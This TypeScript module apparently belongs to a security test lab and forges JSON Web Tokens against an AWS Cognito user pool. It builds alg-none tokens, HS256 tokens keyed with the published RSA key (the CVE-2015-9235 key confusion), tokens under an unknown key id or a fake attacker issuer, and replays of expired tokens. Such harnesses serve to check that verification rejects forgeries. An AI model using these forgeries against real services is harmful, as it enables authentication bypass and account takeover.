import { createHmac, createPublicKey, createSign, generateKeyPairSync, type JsonWebKey } from "node:crypto";

/** A JSON Web Key as Cognito publishes it (RFC 7517). */
export interface PublishedKey extends JsonWebKey {
  readonly kid: string;
}

/** A token's claims. */
export type Claims = Readonly<Record<string, unknown>>;

/** Forges tokens from what any outsider can know: the pool's public keys and the claims of a token of one's own. */
export interface TokenForge {
  /** `alg: none` and no signature (RFC 7519, section 6). */
  algNone(claims: Claims): string;
  /** HS256 with the published RSA key, as PEM text, for a secret: the key confusion of CVE-2015-9235. */
  hs256PublicKey(claims: Claims): string;
  /** Signed with a key of the attacker's own, under a `kid` that the pool does not publish, by default always the same. */
  unknownKid(claims: Claims, kid?: string): string;
  /** Signed with a key of the attacker's own, from an issuer that is not the pool. */
  otherIssuer(claims: Claims): string;
  /** A token that the pool itself signed for carol, once it has expired: what was stolen yesterday. */
  expired(): Promise<string>;
  /** A fresh access token of carol: what the forgeries imitate. */
  readonly template: string;
}

/** The issuer that the forged tokens of `otherIssuer` name: a user pool that is not the stage's. */
export const OTHER_ISSUER = "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_Attackers";

/** Forged tokens use the key id of the pool where the forgery does not depend on another. */
export function tokenForge(key: PublishedKey, genuine: Pick<TokenForge, "expired" | "template">): TokenForge {
  const own = generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey;
  const pem = createPublicKey({ key, format: "jwk" }).export({ format: "pem", type: "spki" });
  const sign = (header: Claims, claims: Claims): string => {
    const input = `${encode(header)}.${encode(claims)}`;
    return `${input}.${createSign("RSA-SHA256").update(input).sign(own, "base64url")}`;
  };
  return {
    ...genuine,
    algNone: (claims) => `${encode({ alg: "none", kid: key.kid })}.${encode(claims)}.`,
    hs256PublicKey: (claims) => {
      const input = `${encode({ alg: "HS256", kid: key.kid })}.${encode(claims)}`;
      return `${input}.${createHmac("sha256", pem).update(input).digest("base64url")}`;
    },
    unknownKid: (claims, kid = "attackers-key") => sign({ alg: "RS256", kid }, claims),
    otherIssuer: (claims) => sign({ alg: "RS256", kid: key.kid }, { ...claims, iss: OTHER_ISSUER }),
  };
}

/**
 * Waits until a token has expired by the clock of this machine, which is the stage's too.
 *
 * @param now milliseconds since the epoch
 */
export async function onceExpired(token: string, now: () => number = Date.now): Promise<string> {
  // `exp` is in whole seconds; a token is still valid in the second that it names.
  const left = (Number(claimsOf(token).exp) + 1) * 1000 - now();
  if (left > 0) await new Promise((resolve) => setTimeout(resolve, left));
  return token;
}

/** Reads a token's claims without verifying anything: the lab, like an attacker, only copies them. */
export function claimsOf(token: string): Claims {
  const [, payload = ""] = token.split(".");
  return JSON.parse(Buffer.from(payload, "base64url").toString("utf8")) as Claims;
}

function encode(value: Claims): string {
  return Buffer.from(JSON.stringify(value), "utf8").toString("base64url");
}
